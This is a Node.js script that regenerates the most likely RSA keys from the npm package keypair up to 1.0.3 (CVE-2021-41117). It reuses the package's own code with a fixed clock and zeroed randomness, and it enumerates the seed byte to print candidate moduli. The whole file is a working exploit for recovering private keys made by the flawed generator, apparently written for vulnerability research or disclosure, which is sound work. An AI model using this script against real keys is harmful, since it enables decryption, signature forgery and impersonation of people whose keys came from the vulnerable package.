// Makes the likeliest keys of the npm package keypair up to 1.0.3 (CVE-2021-41117) with the package's own code.
//
//   node keypair.js PACKAGE BITS KEYS FROM TO
//
// PACKAGE is the unpacked package keypair 1.0.3, BITS the size of the keys, KEYS how many keys one process makes in a
// row, and FROM and TO (not included) the range of the first seed byte. Prints the moduli in hex, one a line.
//
// The generator is seeded once a process with 32 bytes. The first is the low byte of the clock, in milliseconds, at
// the time of loading. Each of the other 31 is a random byte put through String.fromCharCode twice: it comes out as
// 1 to 9 where the random byte is the ASCII digit, and as 0 otherwise. Here all 31 are 0, which holds for
// (247/256)^31 = 33% of all processes. The rest of the program draws no other randomness. The package's own primality
// test, which is slow, is replaced by OpenSSL's.
'use strict';

const crypto = require('crypto');
const fs = require('fs');
const path = require('path');
const [dir, bits, keys, from, to] = [process.argv[2], ...process.argv.slice(3).map(Number)];
const code = fs.readFileSync(path.join(dir, 'index.js'), 'utf8');

for (let clock = from; clock < to; clock++) {
  function FixedDate() {}
  FixedDate.prototype.valueOf = () => clock;
  const fixedMath = Object.create(Math, { random: { value: () => 0 } });
  for (const name of ['floor', 'ceil', 'min', 'max', 'abs', 'pow', 'log', 'LN2'])
    Object.defineProperty(fixedMath, name, { value: Math[name] });
  const module = { exports: {} };
  const BigInteger = new Function('module', 'Date', 'Math', 'window', 'navigator', code + '\nreturn BigInteger;')(
    module, FixedDate, fixedMath, undefined, undefined);
  BigInteger.prototype.isProbablePrime = function () {
    return crypto.checkPrimeSync(BigInt('0x' + this.toString(16)));
  };
  for (let i = 0; i < keys; i++) {
    const n = crypto.createPublicKey(module.exports({ bits }).public).export({ format: 'jwk' }).n;
    console.log(Buffer.from(n, 'base64url').toString('hex'));
  }
}
